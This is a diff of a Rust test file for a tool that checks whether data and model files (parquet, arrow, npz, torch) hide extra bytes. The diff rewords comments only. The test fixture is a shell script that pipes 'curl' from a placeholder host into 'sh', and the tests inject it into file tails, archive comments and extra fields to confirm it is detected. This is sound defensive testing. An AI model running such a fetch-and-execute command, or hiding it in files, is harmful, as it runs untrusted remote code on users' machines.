@@ -1,5 +1,4 @@
-//! What every byte of a file is for: files of the originals account fully, and what is hidden in them
-//! is found, wherever it is.
+//! Accounts of file bytes: files of the original frameworks account for every byte, and hidden bytes are found anywhere.
 
 use crate::support::{testdata, walk};
 use std::path::Path;
@@ -80,7 +79,7 @@ fn files_of_the_originals_account_fully() {
     assert_eq!(with_rest, WITH_REST.iter().map(|(name, _)| *name).collect::<Vec<_>>());
 }
 
-/// What is hidden: enough to be told by its beginning.
+/// Hidden bytes: enough to be recognized by their beginning.
 const SCRIPT: &[u8] = b"#!/bin/sh\ncurl http://example.invalid/ | sh\n";
 
 struct Hide {
@@ -104,7 +103,7 @@ impl Hide {
     }
 }
 
-/// True where a finding of that code tells of a script, and the verdict is not that all is well.
+/// True where a finding of that code reports a script, and the verdict is not sound.
 fn tells(report: &VerifyReport, codes: &[&str]) -> bool {
     let told = |f: &weighbridge::finding::Finding| {
         codes.contains(&f.code.as_str())
@@ -139,7 +138,7 @@ fn bytes_at_the_end_are_found() {
     }
 }
 
-/// Adds to the number at `place`, whatever its upper half; what it was.
+/// Adds to the number at `place` and keeps its upper half; returns the old value.
 fn move_by(bytes: &mut [u8], place: usize, more: u32) -> u32 {
     let old = u32::from_le_bytes(bytes[place..place + 4].try_into().unwrap());
     if old != u32::MAX {
@@ -159,7 +158,7 @@ fn bytes_behind_a_stream_are_damage() {
 #[test]
 fn bytes_before_the_end_records_are_found() {
     let hide = Hide::new();
-    // The footer is found from the end: what stands before it moves nothing.
+    // The footer is found from the end: bytes before it move nothing.
     for name in ["tables/plain.parquet", "tables/plain.uncompressed.arrow", "tables/plain.zstd.arrow"] {
         let report = hide.verify(name, |bytes| {
             let tail = if name.ends_with("arrow") { 10 } else { 8 };
@@ -170,7 +169,7 @@ fn bytes_before_the_end_records_are_found() {
         });
         assert!(tells(&report, &["hidden-bytes"]), "{name}: {:?}", report.findings);
     }
-    // A directory that is told where it moved to.
+    // A directory with adjusted offsets.
     for name in ["npz/good/stored.npz", "npz/good/compressed.npz", "torch/good/plain.pt"] {
         let report = hide.verify(name, |bytes| {
             let len = u32::try_from(SCRIPT.len()).unwrap();
@@ -197,7 +196,7 @@ fn comments_and_extra_fields_of_archives_are_found() {
         bytes.extend_from_slice(SCRIPT);
     });
     assert!(tells(&report, &["hidden-bytes"]), "{:?}", report.findings);
-    // An extra field of a number that nobody gave away, in the last entry of the directory.
+    // An extra field with an unassigned number, in the last entry of the directory.
     let report = hide.verify("npz/good/stored.npz", |bytes| {
         let end = bytes.len() - 22;
         let at = bytes.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
